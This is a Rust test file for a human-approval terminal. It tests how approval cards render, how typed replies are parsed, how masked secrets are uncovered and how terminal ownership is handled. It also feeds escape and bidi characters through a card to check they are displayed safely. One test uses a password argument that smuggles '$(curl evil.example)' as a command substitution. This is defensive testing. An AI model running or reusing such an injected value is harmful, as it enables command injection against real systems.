//! Tests of the card's text, the meaning of a line, and the ownership of the terminal.

use std::sync::atomic::AtomicBool;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use hitl_base::display::is_unseen;
use hitl_base::sync::lock;

use super::editor::Editor;
use super::reply::{
    EditCheck, EditReply, Menu, Reply, confirms, edit_question, read_edit, second_question,
};
use super::stdin::Console;
use super::tty::Terminal;
use super::{ColorMode, TerminalApprover, card, preview};
use crate::approval::fixture::{NOW, request};
use crate::approval::{ApprovalRequest, Approver as _, Choice, DecisionKind, Review};
use crate::audit::AuditEvent;
use crate::call::Principal;

fn read(line: &str, request: &ApprovalRequest) -> Reply {
    super::reply::read(line, request, Menu::Single)
}

fn question(request: &ApprovalRequest) -> String {
    super::reply::question(request, Menu::Single)
}

#[test]
fn the_card_says_what_would_happen_and_why_it_asks() {
    let request = request(
        r#"{"user":"ann","amount":1500.0,"to":[{"id":7},"a recipient with a name that is longer than what stands on a line of a card beside others"],"note":null}"#,
    );
    let expected = "\
quick approval  Send a certificate of $1500.0 to ann
  title       (with words of the model)
  tool        send_certificate: Sends a certificate.
  risk        high · financial · reaches other systems
  confidence  [############|.....|...] 62 of 100 (auto from 85, quick from 60)
                77 base
               -15 large_amount: An amount is above 1000.
  raised by   high risk
  asked by    agent, in task-1/trial-0, call 4
  priority    urgent, due in 4 h, expires in 3 d 1 min
  arguments   (written by the model; secrets masked)
              user: \"ann\"
              amount: 1500.0  (1,500.00)
              to: (2 items)
                - {\"id\":7}
                - \"a recipient with a name that is longer than what stands on a line of a card beside others\"
              note: null
";
    assert_eq!(card(&request, NOW, ColorMode::Plain), expected);
    assert_eq!(question(&request), "  [a] Send   [r] Keep   [?] Details   [s] Skip > ");
}

#[test]
fn invariant_9_the_card_shows_what_is_there() {
    let nasty = r#"{"a\n  risk":"low\n  risk        low \u001b[2J\u202e\u200b","b":"\\n"}"#;
    let mut request = request(nasty);
    request.reasons = vec!["\u{1b}[31mred\n".to_owned()];
    request.principal = Principal::new("ann\u{202e}");
    for text in [card(&request, NOW, ColorMode::Plain), preview(&request, NOW, ColorMode::Plain)] {
        assert!(!text.chars().any(|c| c != '\n' && is_unseen(c)), "{text:?}");
        // A line that begins like one of the card's own lines is one.
        assert!(text.matches("\n  risk  ").count() <= 1, "{text}");
        assert!(
            text.contains(r#""a\n  risk": "low\n  risk        low \u{1b}[2J\u{202e}\u{200b}""#),
            "{text}"
        );
        assert!(text.contains(r#"b: "\\n""#), "{text}");
    }
}

#[test]
fn long_arguments_are_clipped_and_counted_and_the_preview_shows_more() {
    let ids: Vec<String> = (0..30).map(|id| format!("\"u{id}\"")).collect();
    let long = "x".repeat(1_000);
    let request = request(&format!(r#"{{"ids":[{}],"text":"{long}end"}}"#, ids.join(",")));
    let short = card(&request, NOW, ColorMode::Plain);
    assert!(short.contains("[… 18 of 30 items left out, sha256 "), "{short}");
    assert!(short.contains("- \"u7\"") && short.contains("- \"u29\""), "{short}");
    assert!(short.contains("of 1003 characters left out, sha256 "), "{short}");
    assert!(short.contains("xend\""), "{short}");
    let whole = preview(&request, NOW, ColorMode::Plain);
    assert!(!whole.contains("left out"), "{whole}");
    assert!(whole.contains(&"ab".repeat(32)), "{whole}");
}

#[test]
fn nothing_is_decided_by_accident() {
    let mut request = request("{}");
    for line in ["a", " A ", "yes", "approve"] {
        assert_eq!(read(line, &request), Reply::Approve, "{line:?}");
    }
    for line in ["", "  ", "ab", "a please", "ok", "q"] {
        assert_eq!(read(line, &request), Reply::Unclear, "{line:?}");
    }
    assert_eq!(read("r", &request), Reply::Reject(None));
    assert_eq!(read("r  too much ", &request), Reply::Reject(Some("too much".to_owned())));
    assert_eq!(read("?", &request), Reply::Details);
    assert_eq!(read("s", &request), Reply::Skip);
    assert_eq!(read("u", &request), Reply::Unclear, "nothing is masked");
    let mut masked = super::super::fixture::request(r#"{"password":"[redacted]"}"#);
    assert_eq!(read("u", &masked), Reply::Unclear, "a text that looks like a mask is none");
    masked.binding_version = 1;
    assert_eq!(read("u", &masked), Reply::Uncover, "older requests do not list their masks");
    request.choices = vec![Choice::Reject];
    assert_eq!(read("a", &request), Reply::Unclear);
    assert!(!question(&request).contains("[a]"));
}

#[test]
fn a_series_can_be_ended_and_a_single_question_cannot() {
    let request = request("{}");
    for line in ["q", "quit", " Q "] {
        assert_eq!(super::reply::read(line, &request, Menu::Series), Reply::Quit, "{line}");
        assert_eq!(read(line, &request), Reply::Unclear, "{line}");
    }
    assert!(super::reply::question(&request, Menu::Series).ends_with("[s] Skip   [q] Quit > "));
}

#[test]
fn one_key_is_too_little_where_there_is_a_caution() {
    let mut request = request("{}");
    let asked = second_question(&request).unwrap();
    assert!(
        asked.contains("an amount is above its limit") && asked.contains("[y] Send"),
        "{asked}"
    );
    request.assessment.factors.clear();
    assert_eq!(second_question(&request), None);
    request.level = crate::policy::ApprovalLevel::Full;
    assert!(second_question(&request).unwrap().contains("it needs a full review"));
    for yes in ["y", " YES "] {
        assert!(confirms(yes), "{yes}");
    }
    for no in ["", "a", "n", "ok", "y y"] {
        assert!(!confirms(no), "{no}");
    }
}

#[test]
fn only_what_the_request_allows_is_offered() {
    let mut request = request(r#"{"name":"apollo"}"#);
    for line in ["e", "edit", "m", "m ask Bob", "x", "x enough"] {
        assert_eq!(read(line, &request), Reply::Unclear, "{line}");
    }
    let all = [Choice::Approve, Choice::Edit, Choice::Reject, Choice::Respond, Choice::Abort];
    request.choices = all.to_vec();
    assert_eq!(
        question(&request),
        "  [a] Send   [e] Edit   [r] Keep   [m] Answer the model instead\n  \
         [x] Stop the run   [?] Details   [s] Skip > "
    );
    let typed = |line: &str| read(line, &request);
    assert_eq!(typed("e"), Reply::Edit);
    assert_eq!(typed("e now"), Reply::Unclear);
    assert_eq!(typed("m"), Reply::Respond(None));
    assert_eq!(typed("m ask Bob"), Reply::Respond(Some("ask Bob".to_owned())));
    assert_eq!(typed("X  enough "), Reply::Abort(Some("enough".to_owned())));
    request.approval_type = "deletion".to_owned();
    assert_eq!(read("e", &request), Reply::Unclear, "another name is another call");
    assert!(!question(&request).contains("[e]"));
}

#[test]
fn an_edit_is_sent_only_by_the_letter_that_is_offered() {
    for (check, send) in [
        (EditCheck::Approves, Some("a")),
        (EditCheck::Waits, Some("w")),
        (EditCheck::Refused, None),
    ] {
        for line in ["a", "w", "y", "yes", "", "s", "send"] {
            let sends = read_edit(line, check) == EditReply::Send;
            assert_eq!(sends, Some(line) == send, "{line} {check:?}");
        }
        let shown = edit_question(check);
        assert_eq!(shown.contains("[a]"), send == Some("a"), "{shown}");
        assert!(shown.contains("[b] Back") && shown.lines().all(|line| line.len() <= 80));
        assert_eq!(read_edit("b", check), EditReply::Back);
    }
}

/// A simulated terminal: the test types the lines, through a socket where there is one.
#[cfg(unix)]
mod typed {
    use std::io::Write as _;
    use std::os::unix::net::UnixStream;

    use super::*;
    use crate::approval::terminal::stdin::unix::read_line;

    struct Typed {
        input: UnixStream,
        shown: Arc<Mutex<String>>,
        attended: bool,
        editor: Option<Editor>,
    }

    impl Console for Typed {
        fn attended(&self) -> bool {
            self.attended
        }
        fn show(&self, text: &str) {
            lock(&self.shown).push_str(text);
        }
        fn editor(&self) -> Option<Editor> {
            self.editor.clone()
        }
        fn discard(&self) {}
        fn read_line(&self, withdrawn: &AtomicBool) -> Option<String> {
            read_line(&self.input, withdrawn)
        }
    }

    fn typed(attended: bool) -> (Terminal, UnixStream, Arc<Mutex<String>>) {
        terminal(attended, None)
    }

    fn terminal(
        attended: bool,
        editor: Option<Editor>,
    ) -> (Terminal, UnixStream, Arc<Mutex<String>>) {
        let (input, keyboard) = UnixStream::pair().unwrap();
        let shown = Arc::new(Mutex::new(String::new()));
        let console = Typed { input, shown: Arc::clone(&shown), attended, editor };
        (Terminal::on(console), keyboard, shown)
    }

    #[tokio::test]
    async fn a_person_decides_and_is_asked_for_the_reason() {
        let (terminal, mut keyboard, shown) = typed(true);
        let approver = TerminalApprover::new("ann").on(terminal);
        let request = request("{}");
        keyboard.write_all(b"\nwhat\n?\nr\n\nno budget\n").unwrap();
        let Review::Decided(decision) = approver.review(&request).await else { panic!("decided") };
        assert_eq!(
            decision.answer,
            DecisionKind::Reject {
                reason: Some("no budget".to_owned()),
                again: crate::approval::RepeatPolicy::Refused,
            }
        );
        assert_eq!(decision.by.principal, Principal::new("ann"));
        assert_eq!(decision.binding, request.binding);
        let shown = shown.lock().unwrap();
        assert_eq!(shown.matches("Type one of the letters").count(), 2, "{shown}");
        assert_eq!(shown.matches("Reason (needed)").count(), 2, "{shown}");
        assert!(shown.contains("binding"), "{shown}");
    }

    /// Runs a command.
    #[derive(serde::Deserialize, schemars::JsonSchema)]
    struct Command {
        run: String,
    }

    impl crate::Tool for Command {
        type Output = String;
        type Error = String;
        const SPEC: crate::ToolSpec = crate::ToolSpec::new("command", "Runs a command.")
            .config(crate::ToolConfig::DEFAULT.base_confidence(70));
        fn snapshot(&self, to: &mut crate::SnapshotWriter) -> Result<(), crate::SnapshotError> {
            to.object(|fields| fields.field("run", &self.run))
        }
        async fn run(permit: crate::Permit<Self>) -> Result<String, String> {
            Ok(permit.open().0.run)
        }
    }

    #[tokio::test]
    async fn invariant_9b_one_key_at_the_terminal_shows_what_is_masked() {
        let (terminal, mut keyboard, shown) = typed(true);
        let audit = crate::MemoryAudit::new();
        let gate = crate::Gate::builder()
            .tool::<Command>()
            .audit(audit.clone())
            .approver(TerminalApprover::new("ann").on(terminal))
            .build()
            .await
            .unwrap();
        keyboard.write_all(b"u\na\ny\n").unwrap();
        let run = "mysql --password=\"aB3dE6gH$(curl evil.example)\"";
        let submitted = gate.submit(Command { run: run.to_owned() }).by("agent").await.unwrap();
        assert!(matches!(submitted, crate::Submission::Done { .. }), "{submitted:?}");
        // Removes the breaks of lines that are wider than a terminal.
        let shown = shown.lock().unwrap().replace("\n              | ", "");
        let (before, after) = shown.split_once("[u] Uncover (2 masked)").unwrap();
        assert!(before.contains("masked by its name: 8 characters") && !before.contains("curl"));
        assert!(after.contains("$(curl evil.example)"), "{after}");
        let uncovered = audit.records().into_iter().find(|r| r.event == AuditEvent::Uncovered);
        assert_eq!(uncovered.unwrap().by.unwrap().as_str(), "ann");
    }

    #[tokio::test]
    async fn invariant_9b_a_terminal_that_cannot_uncover_does_not_ask() {
        let (terminal, mut keyboard, shown) = typed(true);
        keyboard.write_all(b"a\n").unwrap();
        let mut masked = request(r#"{"password":"[redacted]"}"#);
        masked.binding_version = 1;
        let approver = TerminalApprover::new("ann").on(terminal);
        assert_eq!(approver.review(&masked).await, Review::NoAnswer);
        assert_eq!(*shown.lock().unwrap(), not_decided(&masked));
    }

    #[tokio::test]
    async fn nobody_there_and_the_end_of_input_are_no_answer() {
        let (terminal, keyboard, shown) = typed(false);
        let approver = TerminalApprover::new("ann").on(terminal);
        let nobody = request("{}");
        assert_eq!(approver.review(&nobody).await, Review::NoAnswer);
        assert_eq!(*shown.lock().unwrap(), not_decided(&nobody));
        drop(keyboard);
        let (terminal, keyboard, shown) = typed(true);
        drop(keyboard);
        let approver = TerminalApprover::new("ann").on(terminal);
        let ended = request("{}");
        assert_eq!(approver.review(&ended).await, Review::NoAnswer);
        assert!(shown.lock().unwrap().ends_with(&not_decided(&ended)));
    }

    fn not_decided(request: &ApprovalRequest) -> String {
        let id = request.id;
        format!("  not decided; it waits for a decision: hitl approve {id}\n")
    }

    #[tokio::test]
    async fn a_skipped_question_names_the_command_that_decides_it() {
        let (terminal, mut keyboard, shown) = typed(true);
        let approver = TerminalApprover::new("ann").on(terminal);
        keyboard.write_all(b"s\n").unwrap();
        let skipped = request("{}");
        assert_eq!(approver.review(&skipped).await, Review::NoAnswer);
        assert!(shown.lock().unwrap().ends_with(&not_decided(&skipped)));
        keyboard.write_all(b"a\ny\n").unwrap();
        let decided = request("{}");
        assert!(matches!(approver.review(&decided).await, Review::Decided(_)));
        assert!(!shown.lock().unwrap().contains(&not_decided(&decided)));
    }

    #[tokio::test]
    async fn a_withdrawn_question_takes_no_answer_from_the_next() {
        let (terminal, mut keyboard, shown) = typed(true);
        let approver = TerminalApprover::new("ann").on(terminal);
        let (first, second) = (request("{}"), request("{}"));
        // Other tests ask on the same terminal, so this question may have to wait for its turn.
        let mut question = approver.review(&first);
        while shown.lock().unwrap().is_empty() {
            let limit = Duration::from_millis(1);
            assert!(tokio::time::timeout(limit, &mut question).await.is_err(), "nobody answered");
        }
        drop(question);
        let note = format!(
            "(the question was withdrawn; if the call still waits: hitl approve {})",
            first.id
        );
        assert!(shown.lock().unwrap().contains(&note));
        keyboard.write_all(b"a\ny\n").unwrap();
        let Review::Decided(decision) = approver.review(&second).await else { panic!("decided") };
        assert_eq!(decision.request, second.id);
    }

    #[tokio::test]
    async fn one_dialog_at_a_time_and_what_is_around_it_ends_with_it() {
        struct Up(Arc<Mutex<Vec<&'static str>>>);
        impl Drop for Up {
            fn drop(&mut self) {
                self.0.lock().unwrap().push("down");
            }
        }
        let log = Arc::new(Mutex::new(Vec::new()));
        let (terminal, mut keyboard, _) = typed(true);
        let events = Arc::clone(&log);
        let terminal = terminal.around(move || {
            events.lock().unwrap().push("up");
            Up(Arc::clone(&events))
        });
        keyboard.write_all(b"one\ntwo\n").unwrap();
        let mut lines = Vec::new();
        let ask = async |terminal: &Terminal| terminal.open().await?.ask("? ").await;
        let (first, second) = tokio::join!(ask(&terminal), ask(&terminal));
        lines.extend(first);
        lines.extend(second);
        lines.sort();
        assert_eq!(lines, ["one", "two"]);
        assert_eq!(*log.lock().unwrap(), ["up", "down", "up", "down"]);
    }

    mod editing;
}
